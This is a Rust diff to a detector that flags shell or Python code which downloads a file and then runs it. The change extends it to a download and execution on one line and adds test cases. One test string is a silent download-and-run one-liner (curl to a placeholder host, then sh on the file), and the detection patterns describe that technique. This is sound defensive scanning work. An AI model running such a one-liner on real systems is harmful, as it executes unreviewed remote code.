@@ -678,10 +678,15 @@ pub(super) fn download_then_run(code: &str, first_line: u32) -> Option<(u32, u32
         let file = c[3].trim_end_matches(['"', '\'']).to_owned();
         let name = file.rsplit('/').next().unwrap_or(&file).to_owned();
         // Output thrown away (`command -v curl &>/dev/null`) is no download.
-        if name.len() < 2 || file.starts_with("/dev/") {
+        // Nor is standard output (`-o -`).
+        if name.is_empty() || name == "-" || file.starts_with("/dev/") {
             continue;
         }
-        for (j, later) in lines.iter().enumerate().skip(i + 1).take(30) {
+        // The same line after the download (`curl -o /tmp/p URL && sh /tmp/p`), then the lines after it.
+        let rest = c.get(0).map_or("", |m| &line[m.end()..]);
+        for (j, later) in
+            std::iter::once((i, rest)).chain(lines.iter().copied().enumerate().skip(i + 1).take(30))
+        {
             let runs = later.contains(&format!("chmod +x {file}"))
                 || later.contains(&format!("chmod 755 {file}"))
                 || later.contains(&format!("chmod 777 {file}"))
@@ -1034,6 +1039,11 @@ mod tests {
         assert_eq!(download_then_run(py, 1), Some((2, 3)));
         let data = "urllib.request.urlretrieve(URL, out)\nprint(open(out).read())\n";
         assert_eq!(download_then_run(data, 1), None);
+        // Downloaded and run on one line, the run after `&&`; a download read on the same line is not run.
+        let one = "curl -s https://x.invalid/p -o /tmp/p && sh /tmp/p >/dev/null 2>&1\n";
+        assert_eq!(download_then_run(one, 3), Some((3, 3)));
+        let read = "curl -s https://x.invalid/d.json -o /tmp/d.json && jq . /tmp/d.json\n";
+        assert_eq!(download_then_run(read, 3), None);
     }
 
     #[test]
